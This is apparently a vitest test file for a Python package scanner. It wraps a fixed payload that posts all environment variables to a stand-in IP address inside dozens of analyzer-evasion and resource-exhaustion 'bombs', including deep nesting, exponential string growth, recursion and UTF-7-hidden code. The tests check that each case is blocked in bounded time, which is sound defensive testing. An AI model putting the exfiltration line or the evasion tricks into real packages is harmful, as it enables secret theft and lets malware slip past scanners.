import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { buildWheel } from '@safe-pip/testkit/build-wheel'
import { testPython } from '@safe-pip/testkit/python-environment'
import { beforeAll, describe, expect, test } from 'vitest'
import { bytesOf } from '../base/byte-source.ts'
import type { CodeReader } from '../model/code-input.ts'
import { DEFAULT_POLICY } from '../policy/policy.ts'
import { examineArtifact } from '../vet/examine.ts'
import { judgeArtifact } from '../vet/judge.ts'
import { makeRuleContext } from '../vet/rule-context.ts'
import { loadCodeReader } from './load-code-reader.ts'

/** What is hidden behind each of the bombs; by itself it is refused. */
const PAYLOAD = '\nimport os, requests\nrequests.post("http://203.0.113.7/c", data=dict(os.environ))\n'
/** Milliseconds; the machine that runs this may be busy. */
const PATIENCE = 30_000

let codeReader: CodeReader
beforeAll(async () => {
  codeReader = await loadCodeReader()
})

type Files = Readonly<Record<string, string | Uint8Array>>

/** The verdict on the code of a wheel alone, and how long it took. */
async function vet(files: Files): Promise<{ verdict: string; milliseconds: number }> {
  const { bytes, filename } = buildWheel({ name: 'demo', version: '1.0', files })
  const started = performance.now()
  const examination = await examineArtifact(bytesOf(bytes), filename, { codeReader })
  const nothing = { state: 'not-applicable' } as const
  const judged = judgeArtifact(
    examination,
    { release: nothing, request: nothing, advisories: nothing },
    { policy: DEFAULT_POLICY, ruleContext: makeRuleContext(DEFAULT_POLICY, { now: 0 }) },
  )
  return { verdict: judged.verdict, milliseconds: performance.now() - started }
}

const many = (text: string, count: number): string => text.repeat(count)
const package_ = (code: string): Files => ({ 'demo/__init__.py': code + PAYLOAD })
const joined = (...parts: Uint8Array[]): Uint8Array => Buffer.concat(parts)
const nestedBlocks = (depth: number): string =>
  Array.from({ length: depth }, (_, level) => `${' '.repeat(level)}if x${level}:\n`).join('') + `${' '.repeat(depth)}pass\n`

const BOMBS: readonly (readonly [string, Files])[] = [
  ['nothing', package_('')],
  ['brackets 20,000 deep', package_(`x = ${many('(', 20_000)}1${many(')', 20_000)}\n`)],
  ['brackets that never close', { 'demo/__init__.py': `${PAYLOAD}x = ${many('[', 50_000)}` }],
  ['blocks 90 deep', package_(nestedBlocks(90))],
  ['attributes 50,000 long', package_(`x = a${many('.b', 50_000)}\n`)],
  ['calls 5,000 deep', package_(`x = ${many('f(', 5000)}1${many(')', 5000)}\n`)],
  ['a chain of 10,000 lambdas', package_(`x = ${many('lambda: ', 10_000)}0\n`)],
  ['5,000 conditions in a row', package_(`x = ${many('1 if a else ', 5000)}0\n`)],
  ['a 100 MB line', package_(`x = "${many('a', 100_000_000)}"\n`)],
  ['a line of 7 MB', package_(`x = [${many('1,', 3_500_000)}]\n`)],
  ['a text of 7 MB', package_(`x = """${many('a b\n', 1_750_000)}"""\n`)],
  ['a million concatenations', package_(`x = ${many('"a"+', 1_000_000)}"b"\n`)],
  ['a million strings in a row', package_(`x = (${many('"a" ', 1_000_000)})\n`)],
  ['doubling', package_(`x = "a"\n${many('x = x + x\n', 400)}`)],
  ['doubling by replacing', package_(`x = "a"\n${many('x = x.replace("a", "aa")\n', 400)}`)],
  ['doubling by formatting', package_(`x = "a"\n${many('x = f"{x}{x}"\nx = "%s%s" % (x, x)\nx = "{0}{0}".format(x)\n', 200)}`)],
  ['doubling of lists', package_(`x = [1]\n${many('x = x + x\nx.extend(x)\n', 200)}`)],
  ['squaring', package_(`x = 123456789\n${many('x = x * x\ny = "%d" % x\nz = str(x)\n', 200)}`)],
  ['towers of powers', package_('x = 9 ** 9 ** 9 ** 9\ny = 1 << 10 ** 12\nz = pow(3, 10 ** 9)\n')],
  ['a repeated text', package_('x = "a" * 10 ** 12\ny = b"a" * 10 ** 9 * 10 ** 9\nz = [0] * 10 ** 12\n')],
  ['recursion', package_('def f(x):\n    return f(x + "a") + f(x)\nf("")\n')],
  ['mutual recursion', package_('def f(x): return g(x + "b")\ndef g(x): return f(x) + f("c" + x)\nf("a")\n')],
  ['a function of itself', package_('y = lambda f: (lambda x: f(lambda v: x(x)(v)))(lambda x: f(lambda v: x(x)(v)))\ny(y)(y)\n')],
  ['code that runs itself', package_('s = "exec(s); exec(s)"\nexec(s)\n')],
  ['code that makes code', package_('s = "s = \'exec(s)\' + s; exec(s)"\nexec(s)\neval("eval(" * 90 + ")" * 90)\n')],
  ['a list that grows while it is read', package_('l = [1]\nfor i in l:\n    l.append(i)\n')],
  [
    'eight nested loops',
    package_(
      `${Array.from({ length: 8 }, (_, at) => `${' '.repeat(at)}for i${at} in range(4096):\n`).join('')}${' '.repeat(8)}x = 1\n`,
    ),
  ],
  ['a loop without end', package_('x = 0\nwhile True:\n    x = x + 1\nwhile x < 10 ** 12:\n    x += 1\n')],
  [
    '20,000 functions',
    package_(Array.from({ length: 20_000 }, (_, at) => `def f${at}(x): return f${(at * 7) % 20_000}(x)\n`).join('')),
  ],
  [
    '5,000 classes, each of the one before',
    package_(
      `class C0: pass\n${Array.from({ length: 5000 }, (_, at) => `class C${at + 1}(C${at}): pass\n`).join('')}C5000().x()\n`,
    ),
  ],
  ['40,000 branches', package_(many('if a:\n  x = 1\nelse:\n  x = 2\n', 40_000))],
  [
    '500 modules that import each other',
    {
      ...Object.fromEntries(
        Array.from({ length: 500 }, (_, at) => [`demo/m${at}.py`, `from . import m${(at + 1) % 500}, m${(at * 7) % 500}\n`]),
      ),
      'demo/__init__.py': `from . import m0${PAYLOAD}`,
    },
  ],
  ['null bytes', package_('x = 1\0\n\0\0\n')],
  [
    'lone surrogates',
    { 'demo/__init__.py': joined(Buffer.from('x = "'), Uint8Array.of(0xed, 0xa0, 0x80), Buffer.from(`\\ud800"\n${PAYLOAD}`)) },
  ],
  ['UTF-16', { 'demo/__init__.py': joined(Uint8Array.of(0xff, 0xfe), Buffer.from(PAYLOAD, 'utf16le')) }],
  [
    'a mark of UTF-8 and another encoding named',
    { 'demo/__init__.py': joined(Uint8Array.of(0xef, 0xbb, 0xbf), Buffer.from(`# coding: latin-1\n${PAYLOAD}`)) },
  ],
  ['an encoding that hides code', { 'demo/__init__.py': '# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n' }],
  ['an encoding nobody knows', package_('# coding: x-no-such-thing\n')],
  [
    'bytes of no encoding',
    {
      'demo/__init__.py': joined(
        Buffer.from('x = "'),
        Uint8Array.from({ length: 4096 }, (_, at) => 128 + (at % 128)),
        Buffer.from(`"\n${PAYLOAD}`),
      ),
    },
  ],
  ['a picture that is a program too', { 'demo/__init__.py': `GIF89a = 1\n${PAYLOAD}` }],
  ['carriage returns for newlines', { 'demo/__init__.py': `# harmless\r${PAYLOAD.replaceAll('\n', '\r')}` }],
  ['quotes that do not match', { 'demo/__init__.py': `${PAYLOAD}${many('"""\'\'\'"\'', 20_000)}` }],
  ['format strings in each other', package_(`x = ${many('f"{', 12)}1${many('}"', 12)}\n`)],
]

describe('hostile code ends in bounded time and hides nothing behind it', () => {
  test.each(BOMBS)('%s', { timeout: 2 * PATIENCE }, async (_, files) => {
    const { verdict, milliseconds } = await vet(files)
    expect(['block', 'cannot-vet']).toContain(verdict)
    expect(milliseconds).toBeLessThan(PATIENCE)
  })
})

const RUNS = [
  ' ',
  '\t',
  '\n',
  '\\\n',
  '#',
  '(',
  '"',
  "'",
  '@',
  ':',
  ';',
  '.',
  '_',
  'l1I',
  'import ',
  'from ',
  'exec(',
  'def f():',
  'x=',
  'http://',
  'a@',
  '%s',
  '{',
  '}}',
  'f"{',
  'C:\\\\',
  '/..',
  '-----BEGIN ',
  'AAAA',
  'powershell ',
  '\\x41',
  '\u200b',
  '\ufffd',
  '0x',
  '=,',
]

describe('long runs of one thing take linear time', () => {
  test.each(RUNS)('%j', { timeout: PATIENCE }, async (run) => {
    const length = 300_000
    const content = many(run, Math.ceil(length / run.length))
    const { milliseconds } = await vet({
      'demo/__init__.py': `x = """${content.replaceAll('"', "'")}"""\nprint(x)\n`,
      'demo/raw.py': content,
      'demo/quoted.py': `x = ${JSON.stringify(content.slice(0, 100_000))}\nimport os\nos.system(x)\n`,
    })
    expect(milliseconds).toBeLessThan(PATIENCE / 3)
  })
})

test('damaged real files never end the analyzer', { timeout: 4 * PATIENCE }, async () => {
  const ask = ['-I', '-c', 'import sysconfig; print(sysconfig.get_path("stdlib"))']
  const folder = execFileSync(testPython(), ask, { encoding: 'utf8' }).trim()
  const names = readdirSync(folder).filter((name) => name.endsWith('.py'))
  let state = 7
  const random = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
  const files: Record<string, Uint8Array> = {}
  for (let count = 0; count < 60; count++) {
    const whole = readFileSync(`${folder}/${names[random(names.length)] ?? ''}`)
    const start = random(whole.length)
    const bytes = Buffer.from(whole.subarray(start, start + 12_000))
    for (let change = 0; change < 20 && bytes.length > 0; change++) bytes[random(bytes.length)] = random(256)
    files[`demo/m${count}.py`] = bytes
  }
  const { verdict } = await vet(files)
  expect(['allow', 'warn', 'confirm', 'block', 'cannot-vet']).toContain(verdict)
})
